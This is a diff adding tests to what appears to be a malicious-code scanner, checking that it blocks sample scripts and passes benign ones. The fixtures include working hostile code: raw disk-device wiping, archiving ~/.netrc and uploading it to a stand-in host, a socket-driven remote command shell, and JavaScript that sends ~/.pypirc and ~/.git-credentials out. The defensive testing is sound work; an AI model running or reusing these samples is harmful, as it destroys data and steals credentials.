@@ -213,3 +213,62 @@ def test_npm_install_hook_that_downloads_and_runs_a_binary(tmp_path: Path) -> No
     )
     pkg2 = '{"name": "t", "version": "1.0.0", "scripts": {"postinstall": "node scripts/copy.js"}}\n'
     assert not _blocked(tmp_path / "b", {"pkg/package.json": pkg2, "pkg/scripts/copy.js": copy})
+
+
+def test_disk_device_written_by_redirect_shred_or_python(tmp_path: Path) -> None:
+    for i, (rel, bad) in enumerate(
+        [
+            ("scripts/z.sh", '#!/bin/sh\nT=$(lsblk -dno NAME | head -n1)\nhead -c 1G /dev/zero > "$T"\n'),
+            ("scripts/z.sh", "#!/bin/sh\nshred -n 1 /dev/nvme0n1\n"),
+            ("scripts/z.py", "with open('/dev/sdb', 'wb') as d:\n    d.write(bytes(4096))\n"),
+        ]
+    ):
+        assert "SY-FLOW-004" in _blocked(tmp_path / f"a{i}", {rel: bad})
+    good = "#!/bin/sh\nhead -c 1M /dev/urandom > sample.bin\nshred -u sample.bin\n"
+    assert not _blocked(tmp_path / "b", {"scripts/z.sh": good})
+
+
+def test_secret_given_to_an_archive_as_file_object(tmp_path: Path) -> None:
+    bad = (
+        "import io, tarfile, requests\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w') as t:\n"
+        "    t.addfile(tarfile.TarInfo('n'), fileobj=open('/home/u/.netrc', 'rb'))\n"
+        "requests.put('https://x.example.invalid/u', data=buf.getvalue())\n"
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "a", {"scripts/t.py": bad})
+    good = (
+        "import io, tarfile, requests, sys\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w') as t:\n"
+        "    t.addfile(tarfile.TarInfo('n'), fileobj=open('report.csv', 'rb'))\n"
+        "requests.put(sys.argv[1], data=buf.getvalue())\n"
+    )
+    assert not _blocked(tmp_path / "b", {"scripts/t.py": good})
+
+
+def test_python_commands_received_on_a_socket_are_run(tmp_path: Path) -> None:
+    bad = (
+        "import socket, subprocess\nc = socket.create_connection(('192.0.2.30', 9))\nwhile True:\n"
+        "    order = c.recv(4096).decode()\n    r = subprocess.run(order, shell=True, capture_output=True)\n"
+        "    c.sendall(r.stdout)\n"
+    )
+    assert "SY-FLOW-006" in _blocked(tmp_path / "a", {"scripts/agent.py": bad})
+    # a local echo server: what arrives is sent back, never run
+    good = (
+        "import socket, subprocess\nsrv = socket.create_server(('127.0.0.1', 7007))\nc, _ = srv.accept()\n"
+        "data = c.recv(4096)\nc.sendall(data.upper())\nsubprocess.run(['git', 'status'], check=False)\n"
+    )
+    assert not _blocked(tmp_path / "b", {"scripts/echo.py": good})
+
+
+def test_js_for_of_over_credential_paths_pushed_and_sent(tmp_path: Path) -> None:
+    bad = (
+        "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n"
+        "const names = [os.homedir() + '/.pypirc', os.homedir() + '/.git-credentials'];\nconst got = [];\n"
+        "for (const n of names) { if (fs.existsSync(n)) got.push(fs.readFileSync(n, 'utf8')); }\n"
+        "const r = https.request({ host: 'h.example.invalid', method: 'POST' });\nr.end(got.join('\\n'));\n"
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "a", {"scripts/s.js": bad})
+    good = (
+        "const fs = require('fs');\nconst os = require('os');\n"
+        "const names = [os.homedir() + '/.pypirc', os.homedir() + '/.git-credentials'];\nconst seen = [];\n"
+        "for (const n of names) { if (fs.existsSync(n)) seen.push(n); }\nconsole.log(seen.join('\\n'));\n"
+    )
+    assert not _blocked(tmp_path / "b", {"scripts/s.js": good})
